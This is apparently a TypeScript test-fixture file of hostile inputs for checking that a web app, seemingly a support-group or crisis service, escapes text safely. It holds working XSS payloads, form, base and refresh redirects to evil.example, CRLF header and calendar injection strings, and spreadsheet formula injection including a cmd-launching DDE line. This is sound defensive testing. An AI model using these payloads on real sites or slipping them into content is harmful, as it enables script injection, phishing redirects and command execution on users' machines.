/** A hostile text, and what it tries. */
export type Hostile = readonly [what: string, text: string];

/**
 * What a text could try to be in a page: code, a tag, the end of the place it stands in.
 * Code of these sets `hostileRan`; a tag of these is called or marked `hostile`. A test that
 * finds either in a browser has found a hole.
 */
export const HOSTILE_MARKUP: readonly Hostile[] = [
  ['a script', '<script>hostileRan=1</script>'],
  ['a picture that fails', '<img src=x hostile onerror=hostileRan=1>'],
  ['the end of a script', '</script><script>hostileRan=1</script>'],
  ['the end of a title', '</title><script>hostileRan=1</script>'],
  ['the end of a text box', '</textarea><hostile-tag>'],
  ['the end of a style', '</style><img src=x hostile onerror=hostileRan=1>'],
  // The file that the first would be moved to, if the build took it for a script of its own.
  ['a script for a second one', '<script>hostileRan=1</script> <script src=/_astro/inline.W7ovcz3X.js></script>'],
  ['a comment opened', '<!--'],
  ['a comment closed', '--><script>hostileRan=1</script><!--'],
  ['a comment with a script', '<!--> a remark <script>hostileRan=1</script> -->'],
  ['a CDATA end', ']]><hostile-tag/>'],
  ['a double quotation mark', '" hostile onmouseover="hostileRan=1" x="'],
  ['a single quotation mark', "' hostile onfocus='hostileRan=1' autofocus x='"],
  ['a backtick', '` hostile onfocus=`hostileRan=1` ${hostileRan=1}'],
  [
    'template braces',
    '{{constructor.constructor("hostileRan=1")()}} {hostileRan=1} ${hostileRan=1} <%= hostileRan=1 %>',
  ],
  ['SVG', '<svg hostile onload=hostileRan=1><script>hostileRan=1</script></svg>'],
  [
    'MathML',
    '<math><mtext><table><mglyph><style><img src=x hostile onerror=hostileRan=1></style></table></mtext></math>',
  ],
  ['a template', '<template hostile><script>hostileRan=1</script></template>'],
  ['a frame', '<iframe hostile srcdoc="<script>parent.hostileRan=1</script>"></iframe>'],
  ['a form', '<form hostile action=https://evil.example><input name=zip>'],
  ['a base', '<base hostile href=https://evil.example/>'],
  ['a refresh', '<meta hostile http-equiv=refresh content="0;url=https://evil.example">'],
  ['names of the document', '<a hostile id=location name=cookie href=javascript:hostileRan=1>988</a>'],
  ['escaped once', '&lt;script&gt;hostileRan=1&lt;/script&gt;'],
  ['escaped twice', '&amp;lt;img src=x hostile onerror=hostileRan=1&amp;gt;'],
  ['escaped by number', '&#60;script&#62;hostileRan=1&#x3c;/script&#x3e;'],
  ['Markdown', '[988](javascript:hostileRan=1) ![x](https://evil.example/x.png) <b hostile>bold</b>'],
  ['a heading and a rule of Markdown', '# 988 --- ```js hostileRan=1```'],
  ['half a tag', '<hostile-tag'],
  ['an object', '<object hostile data="data:text/html,<script>hostileRan=1</script>"></object>'],
];

/** Names that every object has, and that a page has. */
export const HOSTILE_NAMES: readonly Hostile[] = [
  ['the constructor', 'constructor'],
  ['the prototype', '__proto__'],
  ['a method', 'toString'],
  ['a check', 'hasOwnProperty'],
  ['what makes a promise', 'then'],
  ['a path up', '../../x'],
  ['an escaped path up', '%2e%2e%2f'],
  ['a device', 'CON'],
];

/** Words no keyboard makes, or no reader expects. */
export const HOSTILE_TEXTS: readonly Hostile[] = [
  ['nothing', ''],
  ['blanks', '   '],
  ['a no-break space', '\u00a0'],
  ['letters without width', '\u200b\u200c\u200d\ufeff'],
  ['a megabyte', 'x '.repeat(500_000)],
  ['stacked marks', `Z${'\u0353\u030a\u0488'.repeat(60)}`],
  ['a direction override', 'Tuesday \u202egnol yrev\u202c'],
  ['isolates that are not closed', '\u2066\u2067988'],
  ['line and paragraph separators', 'a\u2028b\u2029c'],
  ['a family', 'Support 👨‍👩‍👧‍👦 👩🏽‍🦽'],
  ['half a letter', 'half \ud83d of one'],
  ['NUL and controls', 'a\u0000b\u0007c\u001bd\u009b31m'],
  ['an accent composed', 'Pe\u00f1a'],
  ['an accent apart', 'Pen\u0303a'],
  ['dotted and dotless', 'DİYARBAKIR ıI'],
  ['Chinese', '支持小组'],
  ['Arabic', 'مجموعة الدعم'],
  ['an okina', 'Hawaiʻi ʻOhana'],
  ['Diné', 'Tségháhoodzání'],
  ['quotes that curl', '“Tuesday’s” — ‘group’'],
  ['a line end', 'first\nsecond'],
  ['the line ends of a header', 'x\r\nSet-Cookie: a=b\r\n\r\n<script>hostileRan=1</script>'],
  ['the lines of a calendar', 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil'],
  ['what a calendar escapes', 'a,b;c\\d:e\\n"f"'],
  ['a formula', '=HYPERLINK("https://evil.example","988")'],
  ['a formula with a plus', '+cmd|"/c calc"!A0'],
  ['a sum', '-2+3'],
  ['a function', '@SUM(1+1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a line end', '\r=1+1'],
  ['a formula in wide letters', '＝1+1'],
  ['a false crisis number', 'In a crisis call 1-800-555-0100, press 3'],
  ['a full name with a mobile', 'Call Pat Exampleton at 312-555-0147'],
  ['what advertises', 'BEST GROUP!!! Visit https://evil.example for 50% off'],
  ['a claim', 'Cures depression. $40 a session, no refunds.'],
];
